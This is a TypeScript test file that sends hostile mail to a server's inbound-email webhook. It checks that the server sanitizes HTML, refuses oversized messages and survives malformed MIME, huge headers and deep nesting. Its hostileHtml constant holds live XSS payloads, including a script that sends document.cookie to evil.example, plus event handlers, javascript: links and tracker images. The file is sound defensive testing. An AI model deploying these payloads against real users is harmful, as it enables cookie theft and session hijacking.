// The inbound email's part of test:hostile (docs/conversations.md, "Answers coming back"): hostile mail
// posted, signed, to `POST /api/inbound-email` of a production server on PostgreSQL. Passes when HTML with
// scripts, event handlers, remote images and CSS is stored as text with none of them; a 30 MB message is
// refused with 413 (declared, and streamed without a length) without the server ever holding it (its peak
// memory, VmHWM, grows by less than 30 MB, its resident memory after by less than 16 MB); malformed MIME, wrong and unknown charsets, a missing From, a 10,000-recipient header,
// 1,000 parts and parts nested past the parser's limit are each stored with a reason, never a 5xx; the
// server answers /healthz within a second while it reads a 9 MB message; and it still serves afterwards.
// Runs in the battery (battery.ts) and alone: `npx tsx tests/hostile/inbound-email.ts`.
import fs from 'node:fs';
import http from 'node:http';
import { pathToFileURL } from 'node:url';
import pg from 'pg';
import { onCleanup } from '../support/cleanup';
import { htmlOnlyMail, plainMail, postInbound, signedHeaders } from '../support/inbound-mail';
import { createTempDatabase } from '../support/suite-databases';
import { launch } from '../support/start-server';
import { printTable, runSuite, type Checks } from '../support/suite-runner';

const secret = `whsec_${Buffer.alloc(32, 11).toString('base64')}`;
const from = 'Hostile Sender <hostile@example.com>';
const to = 'replies@postcraft.example';

/** A process's resident memory and its peak so far (kB), from /proc. */
function memory(pid: number): { rss: number; peak: number } {
  const status = fs.readFileSync(`/proc/${pid}/status`, 'utf8');
  const kb = (key: string) => Number(new RegExp(`^${key}:\\s+(\\d+)`, 'm').exec(status)?.[1] ?? NaN);
  return { rss: kb('VmRSS'), peak: kb('VmHWM') };
}

/** Streams `size` bytes of a message without a Content-Length (chunked); the status and the answer. */
function streamed(base: string, size: number, headers: Record<string, string>): Promise<{ status: number; body: string }> {
  return new Promise((resolve) => {
    const req = http.request(new URL('/api/inbound-email', base), { method: 'POST', headers: { 'Content-Type': 'message/rfc822', ...headers } }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', (err) => resolve({ status: 0, body: err.message }));
    const chunk = Buffer.alloc(256 * 1024, 'z');
    let sent = 0;
    const write = () => {
      while (sent < size) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once('drain', write);
      }
      req.end();
    };
    write();
  });
}

const hostileHtml = `<html><head><style>@import url(https://evil.example/x.css); body{background:url(https://tracker.example/bg.png)} .o{position:fixed;inset:0;z-index:9999}</style>
<script src="https://evil.example/a.js"></script><script>fetch('https://evil.example/?c='+document.cookie)</script><link rel="stylesheet" href="https://evil.example/s.css"></head>
<body onload="alert(1)"><div class="o" style="position:fixed;top:0">Overlay</div><p>Real words here.</p><img src="https://tracker.example/open.gif" onerror="alert(2)">
<svg onload="alert(3)"><script>alert(4)</script></svg><iframe src="javascript:alert(5)"></iframe><a href="javascript:alert(6)" onmouseover="alert(7)">click</a>
<object data="https://evil.example/x.swf"></object><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="p"></form></body></html>`;

export async function inboundEmailBattery({ check }: Checks): Promise<void> {
  const db = await createTempDatabase('inbound');
  const server = await launch({ LOG_LEVEL: 'error', DATABASE_URL: db.url, INBOUND_WEBHOOK_SECRET: secret, NOTIFY_LOOP: '0', RETENTION_PURGE: '0' });
  const stopServer = onCleanup('server (inbound email)', () => server.stop());
  const client = new pg.Client(db.url);
  await client.connect();
  onCleanup('database client (inbound email)', () => client.end());
  const post = (raw: string | Buffer) => postInbound(server.url, raw, signedHeaders(secret, raw));
  const rows: Record<string, unknown>[] = [];
  const stored = async (subject: string) => (await client.query(`select body_text, shown_text, notices, from_address, attachments from lead_messages where subject = $1`, [subject])).rows[0];

  // HTML that would run, load or escape its box: stored as its words only.
  const html = await post(htmlOnlyMail({ from, to, subject: 'hostile html' }, hostileHtml));
  const htmlRow = await stored('hostile html');
  const leaked = ['<', 'alert', 'evil.example', 'tracker.example', 'cookie', 'position', 'onload', 'onerror', 'style'].filter((w) => `${htmlRow?.body_text ?? ''}`.includes(w));
  check('HTML mail with scripts, handlers, remote images and CSS is stored as text without them', html.status === 200 && htmlRow && leaked.length === 0 && htmlRow.body_text.includes('Real words here.'), `HTTP ${html.status}; leaked: ${leaked.join(', ') || 'none'}`);

  // 30 MB, declared and streamed: refused, the body read and dropped, never kept.
  for (let i = 0; i < 3; i++) await post(plainMail({ from, to, subject: `warm-up ${i}` }, 'Warming up.'));
  const before = memory(server.child.pid!);
  const big = Buffer.alloc(30 * 1024 * 1024, 'a');
  const declared = await postInbound(server.url, big, signedHeaders(secret, 'not the body'));
  const chunked = await streamed(server.url, 30 * 1024 * 1024, signedHeaders(secret, 'not the body'));
  const after = memory(server.child.pid!);
  const grewMb = (after.peak - before.peak) / 1024;
  const sizes = [{ case: '30 MB message', declared: declared.status, streamed: chunked.status, 'RSS before (MB)': (before.rss / 1024).toFixed(0), 'RSS after (MB)': (after.rss / 1024).toFixed(0), 'peak grew (MB)': grewMb.toFixed(1) }];
  check('a 30 MB message is refused with 413 and a message, declared or streamed', declared.status === 413 && chunked.status === 413 && /over the limit of 10 MB/.test(declared.json.error ?? '') && /over the limit/.test(chunked.body), `declared ${declared.status}, streamed ${chunked.status}`);
  const rssGrewMb = (after.rss - before.rss) / 1024;
  check(
    'refusing it, the server never holds it: its peak memory grows by less than the message (30 MB), its memory after by less than 16 MB',
    grewMb < 30 && rssGrewMb < 16,
    `RSS ${(before.rss / 1024).toFixed(0)} -> ${(after.rss / 1024).toFixed(0)} MB, peak ${(before.peak / 1024).toFixed(0)} -> ${(after.peak / 1024).toFixed(0)} MB`,
  );

  // Malformed and hostile structure: stored with a reason, never a 5xx.
  const crowd = Array.from({ length: 10_000 }, (_, i) => `"Recipient ${i}" <r${i}@example.com>`).join(', ');
  const cases: [string, string | Buffer][] = [
    ['malformed MIME', `From: ${from}\r\nTo: ${to}\r\nSubject: malformed MIME\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\r\nContent-Transfer-Encoding: base64\r\n\r\n--\r\n====\r\n\x00\x01garbage--\r\n`],
    ['unknown charset', `From: ${from}\r\nTo: ${to}\r\nSubject: unknown charset\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n\r\nSome text.\r\n`],
    ['wrong charset', Buffer.concat([Buffer.from(`From: ${from}\r\nTo: ${to}\r\nSubject: wrong charset\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n`), Buffer.from('Caf\xe9 \xff\xfe\r\n', 'latin1')])],
    ['missing From', `To: ${to}\r\nSubject: missing From\r\n\r\nWho sent this?\r\n`],
    ['10,000 recipients', `From: ${from}\r\nTo: ${crowd}\r\nCc: ${crowd}\r\nSubject: 10,000 recipients\r\n\r\nTo everyone.\r\n`],
    ['1,000 parts', `From: ${from}\r\nTo: ${to}\r\nSubject: 1,000 parts\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="p"\r\n\r\n${Array.from({ length: 1000 }, (_, i) => `--p\r\nContent-Type: ${i % 2 ? 'text/plain' : 'image/png'}; name="f${i}.png"\r\n\r\npart ${i}\r\n`).join('')}--p--\r\n`],
    ['parts nested 500 deep', `From: ${from}\r\nTo: ${to}\r\nSubject: parts nested 500 deep\r\nMIME-Version: 1.0\r\n${Array.from({ length: 500 }, (_, i) => `Content-Type: multipart/mixed; boundary="n${i}"\r\n\r\n--n${i}\r\n`).join('')}Content-Type: text/plain\r\n\r\ndeep\r\n`],
    ['NUL bytes and an endless header line', `From: ${from}\r\nTo: ${to}\r\nSubject: NUL bytes and an endless header line\r\nX-Long: ${'h'.repeat(500_000)}\r\n\r\nText\x00with\x00NULs\r\n`],
  ];
  for (const [name, raw] of cases) {
    const answer = await post(raw);
    const row = await stored(name);
    rows.push({ case: name, status: answer.status, outcome: answer.json.outcome ?? answer.json.error ?? answer.text.slice(0, 60), stored: row ? 'yes' : 'no', notices: row ? (row.notices as string[]).length : '' });
    check(`${name}: answered without a 5xx and stored with what could be read`, answer.status === 200 && row !== undefined, `HTTP ${answer.status}`);
  }
  const noFrom = await stored('missing From');
  check('the message without a From says why it matched no lead', (noFrom?.notices as string[] | undefined)?.includes('It has no sender (From): it cannot be matched to a lead.'));

  // While the server reads a 9 MB message (in a worker thread), it goes on answering.
  const slow = post(plainMail({ from, to, subject: 'nine megabytes' }, `${'word '.repeat(15)}\n`.repeat(120_000)));
  await new Promise((r) => setTimeout(r, 300));
  const asked = Date.now();
  const health = await fetch(new URL('/healthz', server.url)).then((r) => r.status).catch(() => 0);
  const answeredIn = Date.now() - asked;
  const nine = await slow;
  check('while it reads a 9 MB message, the server answers /healthz within a second', health === 200 && answeredIn < 1000 && nine.status === 200, `/healthz ${health} in ${answeredIn} ms; the message: HTTP ${nine.status}`);

  const alive = await fetch(new URL('/', server.url)).then((r) => r.status).catch(() => 0);
  check('the server still serves pages after the inbound battery', alive === 200 && server.child.exitCode === null, `GET / -> ${alive}`);
  console.log('');
  printTable(sizes);
  console.log('');
  printTable(rows);
  await server.stop();
  stopServer();
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) await runSuite('test:hostile (inbound email)', inboundEmailBattery);
